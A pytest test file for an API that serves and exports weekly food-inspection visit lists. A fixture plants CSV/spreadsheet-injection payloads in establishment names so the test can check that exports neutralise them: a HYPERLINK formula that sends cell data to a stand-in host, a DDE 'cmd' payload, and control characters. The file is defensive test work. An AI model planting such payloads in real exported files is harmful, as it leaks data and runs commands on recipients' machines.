"""The visit list over HTTP: the real Litestar app over a socket, reading the pipeline's lists as the read-only role."""

import io
import time

import pandas as pd
import pyarrow.parquet as pq
import pytest

from chicago_food_assets.core.declarations.contracts import VISIT_LIST
from chicago_food_assets.resources.tables import read_table
from chicago_food_assets_tests.helpers import api_get as get


@pytest.fixture(scope="module")
def lists(pipeline) -> pd.DataFrame:
    return read_table(pipeline["postgres"], "food", "visit_list")


def test_the_current_list_is_the_newest_week_in_visiting_order_and_pages_by_cursor(api, lists):
    newest = lists["week"].max()
    expected = lists[lists["week"] == newest].sort_values("rank")
    first = get(api, "/v1/lists/current", limit=40).json()
    assert first["week"] == f"{newest:%Y-%m-%d}" and len(first["items"]) == 40
    items, cursor = list(first["items"]), first["next_cursor"]
    while cursor:
        page = get(api, f"/v1/lists/{newest:%Y-%m-%d}", limit=500, cursor=cursor).json()
        items += page["items"]
        cursor = page["next_cursor"]
    assert [item["establishment"] for item in items] == expected["establishment"].tolist()
    assert [item["rank"] for item in items] == list(range(1, len(expected) + 1))
    top = items[0]
    assert top["dba_name"] and top["address"] and "days_overdue" in top and top["reasons"] is not None
    assert set(top) == set(VISIT_LIST.names) - {"week"}


def test_a_list_filters_by_facility_type_zip_and_score(api, lists):
    week = lists["week"].max()
    rows = lists[lists["week"] == week]
    kind = rows["facility_type"].value_counts().index[0]
    zip_code = rows["zip"].value_counts().index[0]
    floor = float(rows["score"].median())
    answer = get(api, f"/v1/lists/{week:%Y-%m-%d}", facility_type=kind, zip=zip_code, min_score=floor, limit=500)
    wanted = rows[(rows["facility_type"] == kind) & (rows["zip"] == zip_code) & (rows["score"] >= floor)]
    assert [i["establishment"] for i in answer.json()["items"]] == wanted.sort_values("rank")["establishment"].tolist()


def test_a_whole_list_exports_as_csv_and_parquet(api, lists):
    week = lists["week"].min()
    expected = lists[lists["week"] == week].sort_values("rank")
    csv = get(api, f"/v1/lists/{week:%Y-%m-%d}/visits.csv")
    assert csv.status_code == 200 and csv.headers["Content-Type"].startswith("text/csv") and "ETag" in csv.headers
    assert f'filename="visit-list-{week:%Y-%m-%d}.csv"' in csv.headers["Content-Disposition"]
    table = pd.read_csv(io.StringIO(csv.text))
    assert list(table.columns) == list(VISIT_LIST.names)
    assert table["establishment"].tolist() == expected["establishment"].tolist()
    parquet = get(api, "/v1/lists/current/visits.parquet")
    frame = pq.read_table(io.BytesIO(parquet.content)).to_pandas()
    newest = lists[lists["week"] == lists["week"].max()].sort_values("rank")
    assert frame["establishment"].tolist() == newest["establishment"].tolist()
    assert frame["score"].to_numpy() == pytest.approx(newest["score"].to_numpy())


@pytest.mark.parametrize(
    ("path", "params", "status", "says"),
    [
        ("/v1/lists/2013-03-05", {}, 400, "must be the Monday"),
        ("/v1/lists/yesterday", {}, 400, "YYYY-MM-DD"),
        ("/v1/lists/2031-01-06", {}, 404, "no visit list for the week of 2031-01-06"),
        ("/v1/lists/2031-01-06/visits.csv", {}, 404, "no visit list"),
        ("/v1/lists/current", {"limit": 501}, 400, "limit"),
        ("/v1/lists/current", {"min_score": -1}, 400, "min_score"),
        ("/v1/lists/current", {"zip": "\x00"}, 400, "NUL"),
        ("/v1/lists/current", {"cursor": "not-ours"}, 400, "cursor"),
    ],
)
def test_bad_list_requests_get_a_4xx_that_says_what_was_wrong(api, path, params, status, says):
    response = get(api, path, **params)
    assert response.status_code == status
    assert says in str(response.json())


def test_an_establishment_shows_its_entry_on_the_newest_list(api, lists, pipeline):
    newest = lists[lists["week"] == lists["week"].max()]
    risk = read_table(pipeline["postgres"], "food", "establishment_risk")
    listed = newest[newest["license"].isin(risk["license"]) & (newest["license"] > 0)].iloc[0]
    answer = get(api, f"/v1/establishments/{int(listed['license'])}").json()
    assert answer["listed"]["rank"] == listed["rank"] and answer["listed_week"] == f"{listed['week']:%Y-%m-%d}"
    unlisted = risk[~risk["license"].isin(newest["license"]) & (risk["license"] > 0)].iloc[0]
    answer = get(api, f"/v1/establishments/{int(unlisted['license'])}").json()
    assert answer["listed"] is None and answer["history"]


def test_the_lists_evaluation_is_served_per_week_and_pooled(api, pipeline):
    stored = read_table(pipeline["postgres"], "food", "list_evaluation")
    answer = get(api, "/v1/lists/evaluation").json()
    pooled = stored[stored["scope"] == "pooled"]
    assert len(answer["pooled"]) == len(pooled) >= 1
    assert answer["pooled"][0]["inspections"] == int(pooled["inspections"].iloc[0])
    assert [w["scope"] for w in answer["weeks"]] == sorted(
        stored.loc[stored["scope"] != "pooled", "scope"], reverse=True
    )


@pytest.fixture
def hostile_names(pipeline, lists):
    """The newest list's first five places renamed as an attacker would (restored after the test)."""
    import psycopg2

    week = lists["week"].max()
    names = {
        1: '=HYPERLINK("http://x.example/?"&A1,"click")',
        2: "@SUM(1+1)*cmd|' /C calc'!A0",
        3: "+1+1",
        4: "-2+3 BAR\x1b[31m\x07",
        5: "CAFE\u202eRAB\r\nNEXT\x7fLINE\tTAB",
    }
    with psycopg2.connect(pipeline["url"]) as connection, connection.cursor() as cursor:
        for rank, name in names.items():
            cursor.execute("UPDATE food.visit_list SET dba_name = %s WHERE week = %s AND rank = %s", (name, week, rank))
    yield week, names
    with psycopg2.connect(pipeline["url"]) as connection, connection.cursor() as cursor:
        for rank in names:
            original = lists[(lists["week"] == week) & (lists["rank"] == rank)]["dba_name"].iloc[0]
            cursor.execute(
                "UPDATE food.visit_list SET dba_name = %s WHERE week = %s AND rank = %s", (original, week, rank)
            )


@pytest.mark.faults
def test_route_sheet_cells_never_run_as_formulas_and_carry_no_control_characters(api, hostile_names):
    """Names such as =HYPERLINK(...), @SUM(...), +1+1 and control characters went into visits.csv as they were."""
    import re

    week, names = hostile_names
    text = get(api, f"/v1/lists/{week:%Y-%m-%d}/visits.csv").text
    table = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
    shown = table["dba_name"].head(5).tolist()
    assert shown[0] == "'" + names[1] and shown[1] == "'" + names[2] and shown[2] == "'+1+1"
    assert shown[3].startswith("'-2+3 BAR") and shown[4] == "CAFE RAB  NEXT LINE TAB"
    for cell in table.to_numpy().ravel():
        assert not re.search(r"[\x00-\x1f\x7f\u202a-\u202e\u2066-\u2069]", cell)
        assert not cell.startswith(("=", "+", "-", "@")) or cell.lstrip("-").replace(".", "").isdigit()
    parquet = pq.read_table(io.BytesIO(get(api, f"/v1/lists/{week:%Y-%m-%d}/visits.parquet").content)).to_pandas()
    assert not parquet["dba_name"].str.contains(r"[\x00-\x1f\x7f\u202a-\u202e]").any()


def test_a_list_downloads_in_one_csv_format_from_the_api_and_the_dashboard(api, lists, pipeline):
    """The API's CSV had reasons as JSON and booleans t/f; the dashboard's plain reasons, True/False, other columns."""
    from service.dashboard.visit_list import route_csv
    from service.db import ensure_reader

    week = lists["week"].max()
    from_api = get(api, f"/v1/lists/{week:%Y-%m-%d}/visits.csv").text
    from_dashboard = route_csv(ensure_reader(pipeline["url"]), week, [], 0.0, "")
    assert from_dashboard.splitlines() == from_api.splitlines()
    table = pd.read_csv(io.StringIO(from_api), dtype=str, keep_default_na=False)
    assert set(table["on_map"]) <= {"true", "false"}
    reasons = table.loc[table["reasons"] != "", "reasons"]
    assert len(reasons) and not reasons.str.startswith(("[", "{", "'[")).any()  # words, not JSON
    zip_code = lists.loc[lists["week"] == week, "zip"].value_counts().index[0]
    some = pd.read_csv(io.StringIO(route_csv(ensure_reader(pipeline["url"]), week, [], 0.0, zip_code)), dtype=str)
    assert len(some) == int(((lists["week"] == week) & (lists["zip"] == zip_code)).sum())


@pytest.mark.faults
@pytest.mark.parametrize("encoding", ["identity", "gzip", "br"])
def test_a_download_cut_by_a_new_publication_is_never_a_whole_looking_200(pipeline, lists, monkeypatch, encoding):
    """Under republishing, 6 of 6,186 CSV downloads were 200 with an ETag and 0 bytes: a publication landed between
    the answer's version and its rows. Here one lands exactly then (the real app over a socket, in this process, its
    snapshot preceded by a real publication): the client gets a 503 that says to retry, never a cut 200."""
    import contextlib
    import threading

    import psycopg2
    import requests
    import uvicorn

    from chicago_food_assets_tests.helpers import free_port
    from service.api.app import create_app
    from service.db import Database, ensure_reader

    original = Database.snapshot

    @contextlib.asynccontextmanager
    async def after_a_publication(self):
        with psycopg2.connect(pipeline["url"]) as connection, connection.cursor() as cursor:
            cursor.execute("UPDATE food.publications SET version = version + 1 WHERE table_name = 'visit_list'")
        async with original(self) as connection:
            yield connection

    monkeypatch.setattr(Database, "snapshot", after_a_publication)
    port = free_port()
    server = uvicorn.Server(uvicorn.Config(create_app(ensure_reader(pipeline["url"])), port=port, log_level="critical"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    try:
        for _ in range(100):
            if server.started:
                break
            time.sleep(0.1)
        week = lists["week"].max()
        answer = requests.get(
            f"http://127.0.0.1:{port}/v1/lists/{week:%Y-%m-%d}/visits.csv",
            headers={"Accept-Encoding": encoding},
            timeout=10,
        )
        assert answer.status_code == 503, (answer.status_code, len(answer.content))
        assert "retry" in answer.json()["detail"] and answer.headers["Retry-After"]
    finally:
        server.should_exit = True
        thread.join(10)
